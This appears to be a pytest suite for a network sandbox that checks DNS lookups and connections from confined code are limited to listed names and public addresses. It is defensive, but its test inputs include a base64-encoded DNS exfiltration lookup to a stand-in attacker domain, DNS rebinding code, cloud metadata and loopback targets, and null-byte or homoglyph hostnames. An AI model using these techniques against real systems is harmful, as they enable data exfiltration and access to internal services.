"""Names: only listed ones are looked up, and a name is no way to an address that was not meant. With a real DNS server."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from arena import Arena, Outcome

NAMESPACE = Path(__file__).parent / "namespace.py"
PORT = 8000
CONNECT = """
def attempt():
    with socket.create_connection((V["name"], 8000), timeout=5) as s:
        return s.recv(5).decode()
"""


class Names:
    """The arena in a network of its own."""

    def __init__(self, arena: Arena, folder: Path) -> None:
        self._arena, self._report = arena, folder / "report"
        self.asked: list[str] = []
        self.connections: dict[str, int] = {}

    def under(self, dns: dict[str, list[list[str]]], listen: list[tuple[str, int]]) -> list[str]:
        spec = json.dumps({"dns": dns, "listen": listen})
        return [sys.executable, str(NAMESPACE), str(self._report), spec]

    def run(
        self, code: str, allow: str | None, dns: dict[str, list[list[str]]], listen: list[tuple[str, int]], **V: Any
    ) -> Outcome:
        """Unconfined where `allow` is None."""
        under = self.under(dns, listen)
        if allow is None:
            found = self._arena.unconfined(code, under=under, **V)
        else:
            found = self._arena.confined(code, allow={"net": allow}, under=under, **V)
        report = json.loads(self._report.read_text())
        self.asked, self.connections = report["asked"], report["connections"]
        return found


@pytest.fixture
def names(arena: Arena, tmp_path: Path) -> Names:
    found = Names(arena, tmp_path)
    done = subprocess.run([*found.under({}, []), "true"], capture_output=True, text=True, timeout=30)
    if done.returncode != 0:
        message = f"this host gives no namespaces to users: {done.stderr.strip().splitlines()[-1]}"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    return found


PRIVATE = ["127.0.0.1", "127.8.8.8", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::"]
UNROUTED = [
    "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "100.100.100.200", "168.63.129.16",
    "192.0.0.192", "198.18.0.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "fd00:ec2::254", "fe80::1", "fec0::1",
    "ff02::1", "64:ff9b::7f00:1", "64:ff9b:1::7f00:1", "::127.0.0.1", "::ffff:0:127.0.0.1", "2002:7f00:1::",
    "2001:0:7f00:1::", "2001:db8::1",
]  # fmt: skip


@pytest.mark.parametrize("address", PRIVATE)
def test_an_allowed_name_that_resolves_to_this_machine_is_refused_its_answer(names: Names, address: str) -> None:
    listen = [("127.0.0.1", PORT), ("127.8.8.8", PORT), ("::1", PORT)]
    dns = {"evil.example": [[address]]}
    assert names.run(CONNECT, None, dns, listen, name="evil.example").value == "hello"
    assert sum(names.connections.values()) == 1
    held = names.run(CONNECT, f"evil.example:{PORT}", dns, listen, name="evil.example")
    assert held.errno == "EACCES"
    assert f'Requires net access to "evil.example:{PORT}"' in held.stderr
    assert sum(names.connections.values()) == 0


@pytest.mark.parametrize("address", UNROUTED)
def test_an_allowed_name_may_not_resolve_to_addresses_that_are_not_public(names: Names, address: str) -> None:
    code = "def attempt():\n    return socket.getaddrinfo('evil.example', 80)[0][4][0]"
    dns = {"evil.example": [[address]]}
    free = names.run(code, None, dns, [])
    assert free.errno is None
    assert free.value != ""
    assert names.run(code, "evil.example", dns, []).errno == "EACCES"


def test_of_mixed_answers_only_the_public_ones_are_given(names: Names) -> None:
    code = "def attempt():\n    return sorted({a[4][0] for a in socket.getaddrinfo('mixed.example', 80)})"
    dns = {"mixed.example": [["127.0.0.1", "93.184.216.34", "10.0.0.1"]]}
    assert names.run(code, None, dns, []).value == ["10.0.0.1", "127.0.0.1", "93.184.216.34"]
    assert names.run(code, "mixed.example:80", dns, []).value == ["93.184.216.34"]


def test_a_name_for_a_private_address_opens_only_the_ports_that_are_listed_by_address(names: Names) -> None:
    """The Redis endpoint is always listed by address: a name that resolves to it must not open its other ports."""
    dns, listen = {"evil.example": [["127.0.0.1"]]}, [("127.0.0.1", PORT), ("127.0.0.1", 6380)]
    for allow in (f"evil.example:{PORT},127.0.0.1:6380", "evil.example,127.0.0.1:6380"):
        assert names.run(CONNECT, allow, dns, listen, name="evil.example").errno == "EACCES"
        assert names.run(CONNECT, allow, dns, listen, name="127.0.0.1").errno == "EACCES"
        assert sum(names.connections.values()) == 0
        open_port = CONNECT.replace("8000", "6380")
        assert names.run(open_port, allow, dns, listen, name="127.0.0.1").value == "hello"


def test_rebinding_after_the_first_answer_reaches_nothing(names: Names) -> None:
    code = """
    def attempt():
        first = socket.gethostbyname("evil.example")
        for _ in range(3):
            try:
                socket.create_connection(("evil.example", 8000), timeout=0.2).close()
                return "reached"
            except OSError as error:
                pass
        raise PermissionError(errno.EACCES, first)
    """
    dns = {"evil.example": [["192.0.2.7"], ["127.0.0.1"]]}
    public = {"evil.example": [["203.0.114.7"], ["127.0.0.1"]]}
    assert names.run(code, None, dns, [("127.0.0.1", PORT)]).value == "reached"
    assert names.run(code, "evil.example", public, [("127.0.0.1", PORT)]).errno == "EACCES"
    assert names.connections == {f"127.0.0.1:{PORT}": 0}


def test_a_private_address_that_is_itself_listed_may_be_the_answer(names: Names) -> None:
    dns = {"db.internal": [["127.0.0.3"]]}
    listen = [("127.0.0.3", PORT)]
    assert names.run(CONNECT, f"db.internal:{PORT},127.0.0.3:{PORT}", dns, listen, name="db.internal").value == "hello"


@pytest.mark.parametrize("name", ["DB.Internal", "db.internal.", "DB.INTERNAL."])
def test_case_and_a_trailing_dot_are_the_same_name(names: Names, name: str) -> None:
    dns, listen = {"db.internal": [["127.0.0.3"]]}, [("127.0.0.3", PORT)]
    assert names.run(CONNECT, f"db.internal:{PORT},127.0.0.3:{PORT}", dns, listen, name=name).value == "hello"


LOOK_UPS = {
    "getaddrinfo": "socket.getaddrinfo(name, 80)",
    "gethostbyname": "socket.gethostbyname(name)",
    "gethostbyname_ex": "socket.gethostbyname_ex(name)",
    "create_connection": "socket.create_connection((name, 80), timeout=2)",
    "connect": "socket.socket().connect((name, 80))",
    "connect_ex": "socket.socket().connect_ex((name, 80))",
    "bytes": "socket.getaddrinfo(name.encode(), 80)",
    "asyncio": "__import__('asyncio').run(__import__('asyncio').open_connection(name, 80))",
    "httpx": "__import__('httpx').get('http://' + name, trust_env=False)",
    "urllib": "__import__('urllib.request').request.urlopen('http://' + name, timeout=2)",
    "http.client": "__import__('http.client').client.HTTPConnection(name, timeout=2).connect()",
}


@pytest.mark.parametrize("way", LOOK_UPS)
def test_a_name_that_is_not_listed_is_not_even_asked_for(names: Names, way: str) -> None:
    """A query is a message to whoever runs the name's zone: nothing may be asked for, and the refusal is a PermissionError."""
    code = f"""
    def attempt():
        name = "c2VjcmV0.attacker.example"
        try:
            {LOOK_UPS[way]}
        except Exception as error:
            seen = set()
            while error is not None and id(error) not in seen:
                seen.add(id(error))
                reason = getattr(error, "reason", None)
                if isinstance(error, PermissionError) or isinstance(reason, PermissionError):
                    raise PermissionError(errno.EACCES, str(error))
                error = error.__cause__ or error.__context__
        return "asked"
    """
    dns = {"c2VjcmV0.attacker.example".lower(): [["203.0.114.7"]], "good.example": [["203.0.114.8"]]}
    names.run("def attempt():\n    return socket.gethostbyname('c2VjcmV0.attacker.example')", None, dns, [])
    assert names.asked == ["c2vjcmv0.attacker.example"] * len(names.asked) != []
    held = names.run(code, "good.example", dns, [])
    assert held.errno == "EACCES", held
    assert names.asked == []


def test_libcs_own_resolver_has_no_way_out(names: Names) -> None:
    code = """
    def attempt():
        import ctypes
        libc = ctypes.CDLL(None)
        found = ctypes.c_void_p()
        if libc.getaddrinfo(b"good.example", None, None, ctypes.byref(found)) != 0:
            raise PermissionError(errno.EACCES, "getaddrinfo")
        return "found"
    """
    dns = {"good.example": [["203.0.114.8"]]}
    assert names.run(code, None, dns, []).value == "found"
    assert names.run(code, "good.example", dns, []).errno == "EACCES"
    assert names.asked == []


@pytest.mark.parametrize(
    "name",
    [
        "a\0.example",
        "good.example\0.evil.example",
        "good.example%00",
        "xn--" + "a" * 80,
        "goo\u0434.example",
        "good.example/",
        "[good.example]",
        "good.example:80",
        "-good.example",
        ".",
        "",
    ],
)
def test_odd_names_are_not_the_listed_one(names: Names, name: str) -> None:
    code = """
    def attempt():
        try:
            return socket.getaddrinfo(V["name"], 80)[0][4][0]
        except (ValueError, UnicodeError) as error:
            raise OSError(errno.EINVAL, str(error))
    """
    dns = {"good.example": [["203.0.114.8"]]}
    held = names.run(code, "good.example", dns, [], name=name)
    assert held.value in (None, "127.0.0.1", "::1")  # an empty name is this machine, which connect(2) refuses
    assert held.errno != "NO OUTCOME"
    assert "good.example" not in names.asked


def test_an_international_name_is_asked_for_in_ascii(names: Names) -> None:
    code = "def attempt():\n    return socket.gethostbyname('b\u00fccher.example')"
    dns = {"xn--bcher-kva.example": [["203.0.114.9"]]}
    assert names.run(code, "b\u00fccher.example", dns, []).value == "203.0.114.9"
    assert set(names.asked) == {"xn--bcher-kva.example"}


def test_an_answer_is_pinned_until_its_address_stops_answering(names: Names) -> None:
    code = """
    def attempt():
        def connect():
            with socket.create_connection(("db.internal", 8000)) as s:
                return s.getpeername()[0]
        found = [socket.gethostbyname("db.internal") for _ in range(5)]
        try:
            connect()
        except ConnectionRefusedError:
            found.append("refused")
        return found + [connect(), connect()]
    """
    dns = {"db.internal": [["127.0.0.2"], ["127.0.0.3"], ["127.0.0.4"]]}
    allow = "db.internal:8000,127.0.0.2:8000,127.0.0.3:8000,127.0.0.4:8000"
    listen = [("127.0.0.3", PORT), ("127.0.0.4", PORT)]
    found = names.run(code, allow, dns, listen)
    assert found.value == ["127.0.0.2"] * 5 + ["refused", "127.0.0.3", "127.0.0.3"]
    assert len(names.asked) == 4  # A and AAAA, twice


def test_a_flood_of_names_below_a_wildcard_is_bounded_and_others_go_on(names: Names) -> None:
    code = """
    def attempt():
        import threading
        results = []
        def ask(number):
            try:
                socket.gethostbyname(f"n{number}.wild.example")
            except OSError as error:
                results.append(type(error).__name__)
        threads = [threading.Thread(target=ask, args=(number,)) for number in range(150)]
        for thread in threads: thread.start()
        for thread in threads: thread.join()
        return [len(results), socket.gethostbyname("good.example")]
    """
    dns = {"good.example": [["203.0.114.8"]]}
    assert names.run(code, "*.wild.example,good.example", dns, []).value == [150, "203.0.114.8"]


def test_a_denied_name_of_an_allowed_block_is_refused_by_address(names: Names) -> None:
    dns, listen = {"secret.internal": [["127.0.0.5"]]}, [("127.0.0.5", PORT), ("127.0.0.6", PORT)]
    under = names.under(dns, listen)
    code = CONNECT
    assert names.run(code, "127.0.0.0/8", dns, listen, name="127.0.0.5").value == "hello"
    arena = names._arena
    held = arena.confined(
        code, allow={"net": "127.0.0.0/8"}, deny={"net": "secret.internal"}, under=under, name="127.0.0.5"
    )
    assert held.errno == "EACCES"
    assert (
        arena.confined(
            code, allow={"net": "127.0.0.0/8"}, deny={"net": "secret.internal"}, under=under, name="127.0.0.6"
        ).value
        == "hello"
    )
